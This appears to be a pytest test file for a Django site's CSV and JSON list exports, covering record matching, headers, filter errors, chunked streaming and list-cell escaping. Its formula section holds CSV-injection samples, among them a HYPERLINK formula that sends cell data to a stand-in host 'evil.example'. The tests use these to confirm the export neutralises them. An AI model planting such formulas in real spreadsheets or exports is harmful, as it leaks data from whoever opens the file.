"""Exports of every list: exactly the records the page shows, in documented CSV and
JSON, refused with reasons for bad filters, streamed in chunks."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from ctdialogue.output.exports import (
    BLOCK_SIZE,
    CHUNK_SIZE,
    blocks,
    country_name,
    list_cell,
    spreadsheet_cell,
)
from events.exports import (
    EVENT_COLUMNS,
    INITIATIVE_COLUMNS,
    ORGANIZATION_COLUMNS,
    PERSON_COLUMNS,
)
from events.models import Event
from resolutions.exports import RESOLUTION_COLUMNS
from tests.factories import InitiativeFactory, ResolutionFactory, ThemeFactory
from tests.records import page_urls, read_csv, read_json

pytestmark = pytest.mark.django_db


LISTS = {
    "events": ("/events/", EVENT_COLUMNS, {"theme": "evidence"}),
    "resolutions": ("/resolutions/", RESOLUTION_COLUMNS, {"year": "2017"}),
    "initiatives": ("/initiatives/", INITIATIVE_COLUMNS, {"theme": "evidence"}),
    "stakeholders": ("/stakeholders/", ORGANIZATION_COLUMNS, {"kind": "ngo"}),
    "speakers": ("/speakers/", PERSON_COLUMNS, {"q": "Kovalenko"}),
}


@pytest.mark.parametrize("name", list(LISTS))
@pytest.mark.parametrize("filtered", [False, True], ids=["all", "filtered"])
def test_export_contains_exactly_the_records_the_page_shows(client, export_records, name, filtered):
    path, _, params = LISTS[name]
    export = path + "export"
    params = params if filtered else {}
    expected = page_urls(client, path, params)

    rows = read_csv(client.get(f"{export}.csv", params))
    data = read_json(client.get(f"{export}.json", params))

    assert expected, "the page must show something for the comparison to mean anything"
    assert [row["url"].removeprefix("http://testserver") for row in rows] == expected
    assert [r["url"].removeprefix("http://testserver") for r in data["records"]] == expected


@pytest.mark.parametrize("name", list(LISTS))
def test_csv_export_has_the_documented_header_and_utf8(client, export_records, name):
    path, columns, _ = LISTS[name]
    export = path + "export"

    response = client.get(f"{export}.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="{export.split("/")[1]}.csv"' in response["Content-Disposition"]
    rows = read_csv(response)
    assert list(rows[0]) == [column.name for column in columns]


@pytest.mark.parametrize("name", list(LISTS))
def test_json_export_has_the_documented_shape(client, export_records, name):
    path, columns, _ = LISTS[name]
    export = path + "export"

    data = read_json(client.get(f"{export}.json"))

    assert set(data) == {"meta", "records"}
    assert data["meta"]["columns"] == [column.name for column in columns]
    assert "CC BY 4.0" in data["meta"]["licence"]
    for item in data["records"]:
        assert list(item) == [column.name for column in columns]
        for column in columns:
            assert isinstance(item[column.name], list) == column.is_list


@pytest.mark.parametrize(
    ("params", "problem"),
    [
        ({"year": "abc"}, "Year: enter a year as four digits"),
        ({"theme": "nope"}, "Theme: “nope” is not one we know."),
        ({"q": "a\x00b"}, "NUL character"),
        ({"page": "2"}, "“page” is not a parameter of this list; it takes "),
        ({"format": "xml"}, "“format” is not a parameter of this list; it takes "),
    ],
)
def test_export_with_bad_filters_is_a_400_with_an_explanation(
    client, export_records, params, problem
):
    as_csv = client.get("/events/export.csv", params)
    as_json = client.get("/events/export.json", params)

    assert as_csv.status_code == 400
    assert as_json.status_code == 400
    assert problem in as_csv.content.decode()
    assert as_json.json()["error"] == "Some parameters could not be understood."
    assert any(problem in item for item in as_json.json()["problems"])


def test_large_export_streams_in_chunks(client):
    theme = ThemeFactory()
    total = CHUNK_SIZE + 500
    Event.objects.bulk_create(
        Event(
            title=f"Event {n}",
            slug=f"event-{n}",
            start_date=datetime.date(2000, 1, 1) + datetime.timedelta(days=n),
            publication_status="published",
            publish_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC),
        )
        for n in range(total)
    )
    Event.themes.through.objects.bulk_create(
        Event.themes.through(event_id=pk, theme_id=theme.pk)
        for pk in Event.objects.values_list("pk", flat=True)
    )

    response = client.get("/events/export.csv")
    assert isinstance(response, StreamingHttpResponse)
    blocks = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as first_rows:
        first = next(blocks)
    with CaptureQueriesContext(connection) as the_rest:
        rest = list(blocks)

    # Rows leave in blocks of about BLOCK_SIZE bytes (one write each), not a line each.
    assert BLOCK_SIZE <= len(first) < 2 * BLOCK_SIZE
    assert 1 < first.count(b"\n") < CHUNK_SIZE
    assert all(block.endswith(b"\n") for block in [first, *rest])
    assert first.count(b"\n") + sum(block.count(b"\n") for block in rest) == total + 1
    # The first block needed only the first chunk; the rest fetched the second
    # chunk's related rows later, so the export never held every row at once.
    assert len(first_rows) > 0
    assert len(the_rest) > 0
    assert len(first_rows) + len(the_rest) < 30


def test_blocks_join_pieces_until_each_reaches_the_size():
    assert list(blocks(["ab", "cd", "e"], size=3)) == ["abcd", "e"]
    assert list(blocks(["abc", "d"], size=3)) == ["abc", "d"]
    assert list(blocks([], size=3)) == []


def test_country_names_are_remembered_per_language():
    with translation.override("fr"):
        french = country_name("DE", translation.get_language())
    with translation.override("en"):
        english = country_name("DE", translation.get_language())

    assert (french, english) == ("Allemagne", "Germany")
    assert country_name("", "en") == ""


def read_list_cell(cell: str) -> list[str]:
    """The reading the data page documents: a backslash keeps the next character;
    every other "; " separates."""
    values, current, index = [], [], 0
    while index < len(cell):
        if cell[index] == "\\":
            current.append(cell[index + 1])
            index += 2
        elif cell.startswith("; ", index):
            values.append("".join(current))
            current, index = [], index + 2
        else:
            current.append(cell[index])
            index += 1
    return [*values, "".join(current)] if cell else []


@pytest.mark.parametrize(
    "values",
    [
        ["S/RES/2396 (2017)", "S/RES/2341 (2017)"],
        ["Threats to peace; terrorism", "Other"],
        ["ends with a backslash \\", "next"],
        ["\\; both", ";", ""],
        ["one"],
        [],
    ],
)
def test_a_list_cell_reads_back_as_exactly_its_values(values):
    assert read_list_cell(list_cell(values)) == values


def test_a_semicolon_in_a_listed_name_does_not_split_it(client):
    resolution = ResolutionFactory()
    resolution.initiatives.add(
        InitiativeFactory(name="Alpha; Beta"), InitiativeFactory(name="Gamma")
    )

    rows = read_csv(client.get("/resolutions/export.csv"))

    assert rows[0]["initiatives"] == "Alpha\\; Beta; Gamma"
    assert read_list_cell(rows[0]["initiatives"]) == ["Alpha; Beta", "Gamma"]


# --- Formulas: neutralised in CSV, exact in JSON ----------------------------------------

FORMULA_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1 and more",
    "-2 and more",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a = b", "a = b"),
        ("2018-01-01", "2018-01-01"),
        ("", ""),
        (-2, -2),
        (2017, 2017),
        (-1.5, -1.5),
        (datetime.date(2018, 1, 1), datetime.date(2018, 1, 1)),
    ],
)
def test_spreadsheet_cell_neutralises_text_that_starts_like_a_formula(value, cell):
    assert spreadsheet_cell(value) == cell


def test_csv_export_neutralises_formulas_and_json_keeps_them(client):
    for number, title in enumerate(FORMULA_TITLES, start=2401):
        ResolutionFactory(number=number, year=2017, title=title)

    as_csv = client.get("/resolutions/export.csv")
    raw = b"".join(as_csv.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw.removeprefix("\ufeff"))))
    as_json = read_json(client.get("/resolutions/export.json"))

    assert sorted(row["title"] for row in rows) == sorted(f"'{t}" for t in FORMULA_TITLES)
    assert sorted(record["title"] for record in as_json["records"]) == sorted(FORMULA_TITLES)
    # Numbers stay numbers, unquoted; every text cell is quoted, its quotes doubled.
    assert {row["number"] for row in rows} == {str(n) for n in range(2401, 2407)}
    assert ',2401,"S/RES/2401 (2017)",2017,' in raw
    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"' in raw


def test_data_page_explains_the_formula_rule(client):
    text = client.get("/data/").content.decode()

    assert "has a single quote (<code>'</code>) added in front of it" in text
